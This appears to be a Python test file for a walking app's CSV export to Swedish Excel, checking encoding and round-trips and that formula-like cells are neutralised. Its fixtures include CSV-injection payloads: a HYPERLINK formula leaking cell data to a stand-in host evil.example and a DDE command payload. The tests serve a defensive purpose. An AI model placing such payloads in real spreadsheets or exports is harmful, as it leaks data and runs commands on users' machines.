"""CSV for Swedish Excel: BOM, semicolons, ISO dates, decimal comma; round-trips through csv."""

import csv
import io
from datetime import date, datetime

from walkapp.exports.csv import BOM, excel_csv


def test_excel_csv_round_trips_with_swedish_letters():
    rows = [
        ["Östermalmstorg", date(2026, 3, 12), datetime(2026, 3, 12, 18, 5), 59.5, None, 'a;"b"']
    ]
    text = "".join(excel_csv(["plats", "datum", "tid", "lat", "tom", "not"], rows))
    assert text.startswith(BOM)
    parsed = list(csv.reader(io.StringIO(text.removeprefix(BOM)), delimiter=";"))
    assert parsed[0] == ["plats", "datum", "tid", "lat", "tom", "not"]
    assert parsed[1] == ["Östermalmstorg", "2026-03-12", "2026-03-12 18:05", "59,5", "", 'a;"b"']


def _cells(rows) -> list[list[str]]:
    text = "".join(excel_csv(["a", "b", "c"], rows)).removeprefix(BOM)
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))[1:]


def test_text_that_a_spreadsheet_would_run_as_a_formula_is_neutralised():
    attacks = [
        '=HYPERLINK("http://evil.example/?leak="&A2,"Klicka")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
    ]
    cells = _cells([[attack, "ok", 1] for attack in attacks])
    assert [row[0] for row in cells] == ["'" + attack for attack in attacks]
    assert all(row[1:] == ["ok", "1"] for row in cells)


def test_real_numbers_are_not_touched():
    assert _cells([[-3, -18.5, 0.25]]) == [["-3", "-18,5", "0,25"]]
    assert _cells([["Lampan = trasig", "a-b", "3"]]) == [["Lampan = trasig", "a-b", "3"]]


def test_a_walkers_formula_note_reaches_neither_csv_as_a_formula(staff, db):
    from tests.test_observations_api import join, observation, post
    from walkapp.db import walks as walks_db

    walk = walks_db.create_walk(db, title="=1+1", starts_at="2026-11-24T18:00")
    note = '=HYPERLINK("http://evil.example/?leak="&A2,"Klicka")'
    walker = staff.application.test_client()
    assert post(walker, walk, join(walker, walk), observation(note=note)).status_code == 201
    for url in (f"/walks/{walk['id']}/protocol.csv", "/export/observations.csv"):
        text = staff.get(url).get_data(as_text=True).removeprefix(BOM)
        cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
        assert "'" + note in cells, url
        assert not any(cell.startswith(("=", "+", "@")) for cell in cells), url
